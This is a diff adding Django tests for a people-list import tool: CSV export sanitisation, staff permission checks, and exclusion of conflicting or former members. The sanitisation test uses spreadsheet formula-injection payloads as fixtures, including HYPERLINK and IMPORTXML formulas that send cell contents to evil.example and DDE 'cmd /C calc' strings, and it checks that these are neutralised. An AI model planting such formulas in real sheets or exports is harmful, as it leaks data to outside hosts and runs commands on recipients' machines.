@@ -3,6 +3,9 @@ not found among Humans, the column mapping edited in a form."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.contrib.auth.models import User
 from django.test import Client
@@ -106,3 +109,97 @@ def test_the_runs_page_shows_what_was_asked_and_found(staff, loaded):
 
     assert loaded.spreadsheet_id in page
     assert "new (not among our people): 6" in page
+
+
+def test_the_export_neutralises_formulas_written_in_the_sheet(staff, google, import_list):
+    sheet = google.sheet(
+        [
+            ["ФИО", "Почта", "Телефон"],
+            ['=HYPERLINK("https://evil.example/?"&A1,"Открыть")', "", ""],
+            ["Анна", "=1+2@evil.example", "-2+3+cmd|' /C calc'!A0"],
+            ["@SUM(1+1)*cmd|' /C calc'!A0", "", "+7 900 000-00-05"],
+        ],
+        title='=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
+    )
+    assert import_list(sheet.spreadsheet_id).code == 0
+    response = staff.post(
+        "/admin/lists/listentry/",
+        {
+            "action": "export_not_found",
+            "_selected_action": list(ListEntry.objects.values_list("pk", flat=True)),
+        },
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "-", "@") or c.startswith("+cmd")]
+    assert "'=HYPERLINK(" in " ".join(cells)
+    assert "+79000000005" in cells  # a phone stays a phone
+
+
+def test_staff_without_the_permission_see_no_entries_nor_export(loaded):
+    clerk = User.objects.create_user("clerk", "clerk@example.org", "pw-for-tests-only")
+    clerk.is_staff = True
+    clerk.save()
+    client = Client(HTTP_ACCEPT_LANGUAGE="en")
+    client.force_login(clerk)
+    pks = list(ListEntry.objects.values_list("pk", flat=True))
+
+    listing = client.get("/admin/lists/listentry/")
+    entry = client.get(f"/admin/lists/listentry/{pks[0]}/change/")
+    export = client.post(
+        "/admin/lists/listentry/", {"action": "export_not_found", "_selected_action": pks}
+    )
+
+    assert (listing.status_code, entry.status_code, export.status_code) == (403, 403, 403)
+
+
+def test_members_with_conflicting_contacts_and_former_members_are_not_exported_as_new(
+    staff, google, import_list
+):
+    from people.models import Human
+
+    Human.objects.create(
+        notion_page_id="00000000-0000-4000-8000-0000000000a1",
+        full_name="Смирнова Анна",
+        telegram_username="anna_smirnova",
+    )
+    Human.objects.create(
+        notion_page_id="00000000-0000-4000-8000-0000000000b2",
+        full_name="Козлов Борис",
+        email="boris@example.org",
+    )
+    former = Human.objects.create(
+        notion_page_id="00000000-0000-4000-8000-0000000000f1",
+        full_name="Орлова Вера",
+        telegram_username="vera_orlova",
+        is_active=False,
+    )
+    sheet = google.sheet(
+        [
+            ["ФИО", "Telegram", "Почта"],
+            ["Анна", "@anna_smirnova", "boris@example.org"],
+            ["Орлова Вера", "@vera_orlova", ""],
+            ["Новиков Глеб", "@gleb_n", ""],
+        ]
+    )
+    assert import_list(sheet.spreadsheet_id).code == 0
+
+    response = staff.post(
+        "/admin/lists/listentry/",
+        {
+            "action": "export_not_found",
+            "_selected_action": list(ListEntry.objects.values_list("pk", flat=True)),
+        },
+    )
+    conflicts = staff.get("/admin/lists/listentry/", {"found": "conflict"}).context["cl"]
+    formers = staff.get("/admin/lists/listentry/", {"found": "former"}).context["cl"]
+    lists_page = staff.get("/admin/lists/peoplelist/").context["cl"]
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
+    assert [row[0] for row in rows] == ["Новиков Глеб"]
+    assert [e.full_name for e in conflicts.result_list] == ["Анна"]
+    assert [(e.full_name, e.former_member) for e in formers.result_list] == [
+        ("Орлова Вера", former)
+    ]
+    assert lists_page.result_list[0].n_new == 1
